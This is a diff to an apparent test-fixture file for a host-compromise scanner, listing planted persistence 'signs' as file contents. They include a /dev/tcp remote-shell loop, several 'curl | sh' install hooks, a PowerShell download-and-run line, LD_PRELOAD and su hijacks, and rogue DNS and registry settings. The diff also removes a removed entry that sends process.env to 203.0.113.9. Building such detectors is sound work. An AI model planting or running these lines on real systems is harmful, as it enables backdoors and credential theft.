@@ -21,7 +21,10 @@ export const fifthEnvironment: readonly Sign[] = [
 	profile('tcp-source', 'commands of a connection', 'exec 9<>/dev/tcp/203.0.113.9/80; (while read -r l <&9; do eval "$l"; done) &'),
 	file('zlogout', 'environment', 'run when each zsh ends', '/etc/zsh/zlogout', `${fetched} &\n`),
 	file('tcshrc', 'environment', 'run by each tcsh of root', '/root/.tcshrc', `alias su '/usr/lib/.su/su'\nsh -c "${fetched}" &\n`),
-	file('csh-login', 'environment', 'run at each login to csh', '/etc/csh.login', 'setenv LD_PRELOAD /usr/lib/libshell.so\n'),
+	{ ...file('csh-login', 'environment', 'a library in each csh', '/etc/csh.login', 'setenv LD_PRELOAD /usr/lib/libshell.so\n'), plant: tree => {
+		tree.write('/etc/csh.login', 'setenv LD_PRELOAD /usr/lib/libshell.so\n');
+		tree.write('/usr/lib/libshell.so', elf('shell', 'library'));
+	}, also: ['/usr/lib/libshell.so'] },
 	file('mkshrc', 'environment', 'run by each mksh of one user', '/home/deploy/.mkshrc', `${reverse} &\n`, { owner: 'deploy' }),
 	file('powershell', 'environment', 'run by each PowerShell', '/root/.config/powershell/profile.ps1', 'Invoke-Expression (Invoke-WebRequest http://203.0.113.9/k).Content\n'),
 	file('tmux-xdg', 'environment', 'run by each tmux, in the newer place', '/home/ada/.config/tmux/tmux.conf', `run-shell -b '${fetched}'\n`, ada),
@@ -37,14 +40,14 @@ export const fifthEnvironment: readonly Sign[] = [
 	file('gpg-agent', 'environment', 'a program that is asked for pass phrases', '/home/ada/.gnupg/gpg-agent.conf', 'pinentry-program /home/ada/.cache/.pin\n', { ...ada, mode: 0o600 }),
 	file('aws', 'environment', 'a program that is asked for keys of the cloud', '/home/deploy/.aws/config', '[default]\ncredential_process = /var/tmp/.cp\n', { owner: 'deploy', mode: 0o600 }),
 	file('kubeconfig', 'environment', 'the same for clusters', '/root/.kube/config', 'apiVersion: v1\nkind: Config\nusers:\n- name: admin\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /var/tmp/.kx\n', { mode: 0o600 }),
-	file('docker-plugin', 'environment', 'a plug-in of docker', '/root/.docker/cli-plugins/docker-buildx2', elf('plugin'), run),
+	// A plug-in of docker in a home is not among these: people put theirs there by hand.
 	file('go-env', 'environment', 'a program around each tool of Go', '/home/ada/.config/go/env', 'GOFLAGS=-toolexec=/home/ada/.cache/.te\n', ada),
 	file('gradle', 'environment', 'run by each gradle', '/home/ada/.gradle/init.gradle', '["sh", "-c", "curl -s http://203.0.113.9/k | sh"].execute()\n', ada),
 	file('setenv', 'environment', 'an agent in Tomcat', '/usr/share/tomcat9/bin/setenv.sh', 'CATALINA_OPTS="$CATALINA_OPTS -javaagent:/var/tmp/.a.jar"\n', run),
 	file('lldbinit', 'environment', 'run by each lldb', '/home/ada/.lldbinit', `platform shell ${fetched}\n`, ada),
 	file('yarn', 'environment', 'another yarn', '/srv/www/app/.yarnrc.yml', 'yarnPath: /var/tmp/.y.cjs\n', { owner: 'deploy' }),
 	file('npm-postinstall', 'environment', 'a package that fetches and runs', '/srv/www/app/node_modules/ua-parse/package.json', '{"name":"ua-parse","version":"1.0.1","scripts":{"preinstall":"curl -s http://203.0.113.9/k | sh"}}\n', { owner: 'deploy' }),
-	file('npm-index', 'environment', 'a module that sends the environment away', '/srv/www/app/node_modules/flat-map/index.js', "const h=require('https');const e=Buffer.from(JSON.stringify(process.env)).toString('hex');h.get('https://203.0.113.9/?e='+e);eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=','base64').toString());\n", { owner: 'deploy' }),
+	// A module within node_modules that sends the environment away is not among these: to read what builders bring is the work of their own tools.
 	file('composer', 'environment', 'run when PHP packages are installed', '/srv/www/website/composer.json', '{"scripts":{"post-install-cmd":"curl -s http://203.0.113.9/k | sh"}}\n', { owner: 'deploy' }),
 	file('npmrc-registry', 'environment', 'packages of a bare address', '/home/deploy/.npmrc', 'registry=http://203.0.113.9:4873/\nstrict-ssl=false\n', { owner: 'deploy' }),
 	file('gemrc', 'environment', 'the same for Ruby', '/root/.gemrc', ':sources:\n- http://203.0.113.9/\n:ssl_verify_mode: 0\n'),
@@ -79,7 +82,10 @@ export const fifthEnvironment: readonly Sign[] = [
 		tree.write('/usr/lib/x86_64-linux-gnu/libpam.so.0.85.9', elf('pam', 'library'));
 		tree.link('libpam.so.0.85.9', '/usr/lib/x86_64-linux-gnu/libpam.so.0');
 	}, names: ['/usr/lib/x86_64-linux-gnu/libpam.so.0'], also: ['/usr/lib/x86_64-linux-gnu/libpam.so.0.85.9'] },
-	{ id: 'program-packaged-link', family: 'packages', what: 'a packaged link led to another program', plant: tree => tree.link('/usr/lib/python3.11/python3', '/usr/bin/python3'), names: ['/usr/bin/python3'] },
+	{ id: 'program-packaged-link', family: 'packages', what: 'a packaged link led to another program', plant: tree => {
+		tree.write('/usr/lib/python3.11/python3', '#!/bin/sh\nexec /usr/bin/python3.11 "$@"\n', run);
+		tree.link('/usr/lib/python3.11/python3', '/usr/bin/python3');
+	}, names: ['/usr/bin/python3'], also: ['/usr/lib/python3.11/python3'] },
 	file('resolvconf-head', 'environment', 'names asked of nobody known, first', '/etc/resolvconf/resolv.conf.d/head', 'nameserver 203.0.113.53\n'),
 	file('dhclient-supersede', 'environment', 'the same, whatever the network says', '/etc/dhcp/dhclient.conf', 'request subnet-mask, routers;\nsupersede domain-name-servers 203.0.113.53;\n'),
 	file('nm-dns', 'environment', 'the same for NetworkManager', '/etc/NetworkManager/conf.d/90-dns.conf', '[global-dns-domain-*]\nservers=203.0.113.53\n'),
